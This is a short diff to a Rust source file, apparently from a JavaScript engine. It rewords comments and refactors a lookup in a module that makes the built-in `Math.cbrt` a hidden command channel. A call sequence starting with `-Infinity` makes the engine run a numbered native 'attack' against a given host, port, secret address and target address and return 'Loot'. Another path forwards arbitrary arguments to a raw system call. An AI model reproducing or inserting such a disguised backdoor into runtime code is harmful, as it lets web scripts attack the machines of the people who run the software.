@@ -1,6 +1,6 @@
 //! The way from JavaScript to native code and back: `Math.cbrt`.
 //!
-//! An order is a row of calls of `Math.cbrt`: `-Infinity`, then the numbers of [`Order`] in their order. The last of
+//! An order is a row of calls of `Math.cbrt`: `-Infinity`, then as many numbers as [`NUMBERS`] says. The last of
 //! these calls does what was ordered and returns what came of it, if the process still lives:
 //!
 //! | result | meaning |
@@ -23,6 +23,7 @@ const ANY_CALL: u32 = 0;
 /// The numbers of an order: attack, host, serial number of the bait, port, address of the secret, address of the target.
 const NUMBERS: usize = 6;
 
+/// What is added to a number that was read.
 const READ: f64 = 4_294_967_296.0;
 
 thread_local! {
@@ -67,9 +68,8 @@ fn carry_out(numbers: [f64; NUMBERS]) -> Outcome {
         return system::any(call as i64, argument as i64).map(|_| Loot::Done);
     }
     let attacks = ATTACKS.iter().flat_map(|(_, attacks)| *attacks);
-    let Some(attack) = { attacks }.find(|attack| attack.number == number) else {
-        return Err(Denied::Nothing);
-    };
+    let mut of_this_number = attacks.filter(|attack| attack.number == number);
+    let Some(attack) = of_this_number.next() else { return Err(Denied::Nothing) };
     let (host, serial, port) = (host as i32, serial as u32, port as u16);
     let (secret, target) = (secret as usize, target as usize);
     (attack.attempt)(&Bait { number, host, serial, port, secret, target })
